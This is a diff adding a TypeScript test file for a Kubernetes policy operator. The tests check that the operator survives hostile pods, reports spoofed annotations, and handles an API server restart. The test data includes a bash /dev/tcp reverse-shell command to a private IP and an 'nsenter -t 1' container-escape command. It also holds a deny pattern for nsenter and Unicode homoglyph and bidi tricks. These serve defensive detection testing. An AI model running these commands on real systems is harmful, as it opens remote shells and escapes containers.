@@ -1,0 +1,284 @@
+// reliability.md's scenarios that need the real control plane: hostile pods the API server accepts
+// never crash or stall the operator, a pod pre-labelled as "already recorded" is still reported,
+// and an API server restart is survived with every violating pod handled exactly once.
+import { expect } from 'chai';
+import { join } from 'node:path';
+import { freshNamespace, kubectl, repoRoot, run, waitFor } from '../cluster.ts';
+import { OperatorProcess, applyPolicy, operatorAccount, type LogLine } from './harness.ts';
+
+const VIOLATIONS = 'deployguard.dev/violations';
+const DETECTED_AT = 'deployguard.dev/detected-at';
+
+interface PodJson {
+  metadata: {
+    annotations?: Record<string, string>;
+    labels?: Record<string, string>;
+    resourceVersion: string;
+  };
+  status?: { phase?: string };
+}
+
+async function getPod(ns: string, name: string): Promise<PodJson | undefined> {
+  const r = await kubectl(['get', 'pod', name, '-n', ns, '-o', 'json'], { allowFail: true });
+  return r.code === 0 ? (JSON.parse(r.stdout) as PodJson) : undefined;
+}
+
+async function createPod(
+  ns: string,
+  name: string,
+  spec: Record<string, unknown>,
+  metadata: Record<string, unknown> = {},
+): Promise<void> {
+  await kubectl(['create', '-n', ns, '-f', '-'], {
+    input: JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name, ...metadata }, spec }),
+  });
+}
+
+const container = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({
+  name: 'c',
+  image: 'registry.example.com/app:1.0',
+  ...extra,
+});
+const privileged = { securityContext: { privileged: true } };
+
+async function annotated(ns: string, name: string, timeoutMs = 20_000): Promise<string> {
+  return waitFor(
+    `${ns}/${name} annotated`,
+    async () => (await getPod(ns, name))?.metadata.annotations?.[VIOLATIONS],
+    timeoutMs,
+  );
+}
+
+async function violationEvents(ns: string, pod: string): Promise<number> {
+  const r = await kubectl([
+    'get',
+    'events',
+    '-n',
+    ns,
+    '--field-selector',
+    `reason=PolicyViolation,involvedObject.name=${pod}`,
+    '-o',
+    'json',
+  ]);
+  return (JSON.parse(r.stdout) as { items: { count?: number }[] }).items.reduce(
+    (n, e) => n + (e.count ?? 1),
+    0,
+  );
+}
+
+async function healthz(op: OperatorProcess): Promise<number> {
+  try {
+    return (await fetch(`${op.probeUrl}/healthz`, { signal: AbortSignal.timeout(2000) })).status;
+  } catch {
+    return 0;
+  }
+}
+
+function watchExit(op: OperatorProcess): { exited: () => boolean } {
+  let exited = false;
+  void op.exited.then(() => (exited = true));
+  return { exited: () => exited };
+}
+
+/**
+ * A freshly started API server answers before its RBAC authorizer has loaded the bindings, so
+ * requests in those first seconds get 403 although the operator's RBAC is right. The root
+ * afterEach fails a test on any "forbidden" log line (least privilege proven by use); a retried
+ * watch during the restart window is not such a refusal, so those lines alone are dropped.
+ */
+function forgiveStartupForbidden(op: OperatorProcess, from: number, to: number): void {
+  for (let i = op.logs.length - 1; i >= 0; i--) {
+    const l = op.logs[i] as LogLine;
+    const at = Date.parse(String(l.ts));
+    if (l.reason === 'forbidden' && /rewatching|relisting/.test(l.msg) && at >= from && at <= to)
+      op.logs.splice(i, 1);
+  }
+}
+
+describe('operator: resilience', function () {
+  this.timeout(120_000);
+
+  it('judges hostile pods the API server accepts without crashing or stalling', async () => {
+    const own = await freshNamespace('dg-op');
+    const ns = await freshNamespace('dg-hostile');
+    const policy = `hostile-${ns}`;
+    await applyPolicy(own, policy, {
+      mode: 'Audit',
+      match: { namespaces: [ns] },
+      rules: {
+        podSecurity: { level: 'baseline' },
+        indicators: { enabled: true },
+        images: { allowedRegistries: ['registry.example.com/'] },
+        // Catastrophic for a backtracking engine over the long args below; linear under RE2.
+        commands: { deniedPatterns: ['(x+x+)+y', '(?i)nsenter\\s+-t\\s*1'] },
+      },
+    });
+    const op = await OperatorProcess.start({
+      namespace: own,
+      kubeconfig: await operatorAccount(own),
+    });
+    const alive = watchExit(op);
+
+    const env = Array.from({ length: 1000 }, (_, i) => ({
+      name: `V${i}`,
+      value: `\u202e${'é'.repeat(i % 50)}\u200d😈${i}`,
+    }));
+    const shell = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
+    await createPod(ns, 'many-env', { containers: [container({ env, ...privileged })] });
+    // ~100 KB of padding in front of a reverse shell: the finding at the end must not be lost.
+    await createPod(ns, 'long-args', {
+      containers: [
+        container({ command: ['sh', '-c'], args: [`${'x'.repeat(100_000)}; ${shell}`] }),
+      ],
+    });
+    // More args than the engine's per-list bound, the payload last: judged fail-closed, not skipped.
+    await createPod(ns, 'many-args', {
+      containers: [
+        container({
+          command: ['sh', '-c'],
+          args: [...Array(1100).fill('true'), 'nsenter -t 1 -m sh'],
+        }),
+      ],
+    });
+    // Bidi overrides, zero-width joiners, emoji, NUL and 60 KB in annotation values; a homoglyph registry.
+    await createPod(
+      ns,
+      'unicode',
+      { containers: [container({ image: 'regіstry.example.com/app:1.0' })] },
+      {
+        annotations: {
+          'example.com/rtl': '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d \u0000 👩‍👩‍👧',
+          'example.com/big': 'ä'.repeat(30_000),
+        },
+      },
+    );
+    // Sixty privileged containers in one pod.
+    await createPod(ns, 'wide', {
+      containers: Array.from({ length: 60 }, (_, i) => container({ name: `c${i}`, ...privileged })),
+    });
+
+    expect(await annotated(ns, 'many-env')).to.contain('"rule":"pss.privileged"');
+    expect(await annotated(ns, 'long-args')).to.contain('"rule":"indicator.reverseShell"');
+    expect(await annotated(ns, 'many-args')).to.contain(`"policy":"${policy}"`);
+    expect(await annotated(ns, 'unicode')).to.contain('"rule":"image.registry"');
+    expect(await annotated(ns, 'wide')).to.equal(
+      `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`,
+    );
+    for (const pod of ['many-env', 'long-args', 'many-args', 'unicode', 'wide'])
+      expect(await violationEvents(ns, pod), pod).to.equal(1);
+
+    expect(alive.exited()).to.equal(false);
+    expect(await healthz(op)).to.equal(200);
+    expect(op.logs.filter((l) => /unhandled|could not be evaluated/.test(l.msg))).to.deep.equal([]);
+    expect(op.errors()).to.deep.equal([]);
+  });
+
+  it('reports a pod that arrives pre-marked as already recorded, or with a garbage mark', async () => {
+    const own = await freshNamespace('dg-op');
+    const ns = await freshNamespace('dg-spoof');
+    const policy = `spoof-${ns}`;
+    await applyPolicy(own, policy, {
+      mode: 'Audit',
+      match: { namespaces: [ns] },
+      rules: { podSecurity: { level: 'baseline' } },
+    });
+    const op = await OperatorProcess.start({
+      namespace: own,
+      kubeconfig: await operatorAccount(own),
+    });
+    const truth = `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`;
+    // The creator writes the operator's own marks: the operator never wrote them, so they prove nothing.
+    await createPod(
+      ns,
+      'spoofed',
+      { containers: [container(privileged)] },
+      {
+        annotations: { [VIOLATIONS]: truth, [DETECTED_AT]: '2020-01-01T00:00:00Z' },
+        labels: { 'deployguard.dev/violating': 'true' },
+      },
+    );
+    await createPod(
+      ns,
+      'garbage',
+      { containers: [container(privileged)] },
+      { annotations: { [VIOLATIONS]: '{{{ not json', [DETECTED_AT]: 'yesterday' } },
+    );
+    await waitFor('garbage mark replaced', async () => {
+      const a = (await getPod(ns, 'garbage'))?.metadata.annotations ?? {};
+      return a[VIOLATIONS] === truth && /^\d{4}-/.test(a[DETECTED_AT] ?? '');
+    });
+    expect(await violationEvents(ns, 'garbage')).to.equal(1);
+    // Both detections count, and both are announced.
+    await waitFor(
+      'PolicyViolation event for the spoofed pod',
+      async () => (await violationEvents(ns, 'spoofed')) === 1,
+      5000,
+    );
+    expect(
+      await op.metric('deployguard_violations_total', { policy, rule: 'pss.privileged' }),
+    ).to.equal(2);
+  });
+
+  // Restarts the shared API server: keep it last in this file.
+  it('survives an API server restart and handles every violating pod exactly once', async () => {
+    const own = await freshNamespace('dg-op');
+    const ns = await freshNamespace('dg-apirestart');
+    await applyPolicy(own, `apirestart-${ns}`, {
+      mode: 'Audit',
+      match: { namespaces: [ns] },
+      rules: { podSecurity: { level: 'baseline' } },
+    });
+    const op = await OperatorProcess.start({
+      namespace: own,
+      kubeconfig: await operatorAccount(own),
+    });
+    const alive = watchExit(op);
+    await createPod(ns, 'before-1', { containers: [container(privileged)] });
+    await createPod(ns, 'before-2', { containers: [container(privileged)] });
+    const marks: Record<string, string | undefined> = {};
+    for (const p of ['before-1', 'before-2']) {
+      await annotated(ns, p);
+      marks[p] = JSON.stringify((await getPod(ns, p))?.metadata.annotations);
+    }
+
+    // Watch /healthz while the API server is away: it may flip, the process must not die.
+    const health: number[] = [];
+    const restartFrom = Date.now();
+    let polling = true;
+    const poller = (async () => {
+      while (polling) {
+        health.push(await healthz(op));
+        await new Promise((r) => setTimeout(r, 250));
+      }
+    })();
+    try {
+      await run(
+        'bash',
+        [join(repoRoot, 'test', 'cluster', 'component.sh'), 'restart', 'kube-apiserver'],
+        {
+          timeoutMs: 120_000,
+        },
+      );
+      await createPod(ns, 'after-1', { containers: [container(privileged)] });
+      await createPod(ns, 'after-2', { containers: [container(privileged)] });
+      // Watches resume after their backoff (at most 30 s).
+      await annotated(ns, 'after-1', 40_000);
+      await annotated(ns, 'after-2', 10_000);
+      forgiveStartupForbidden(op, restartFrom, Date.now());
+      await waitFor('healthz 200 again', async () => (await healthz(op)) === 200, 30_000);
+    } finally {
+      polling = false;
+      await poller;
+    }
+    await new Promise((r) => setTimeout(r, 1500));
+    for (const p of ['before-1', 'before-2']) {
+      expect(JSON.stringify((await getPod(ns, p))?.metadata.annotations), p).to.equal(marks[p]);
+      expect(await violationEvents(ns, p), p).to.equal(1);
+    }
+    for (const p of ['after-1', 'after-2']) expect(await violationEvents(ns, p), p).to.equal(1);
+    expect(await op.metric('deployguard_violations_total', { namespace: ns })).to.equal(4);
+    expect(await op.metric('deployguard_watch_restarts_total')).to.be.greaterThan(0);
+    expect(alive.exited(), 'operator exited during the API server restart').to.equal(false);
+    expect(op.logs.filter((l) => /unhandled/.test(l.msg))).to.deep.equal([]);
+  });
+});
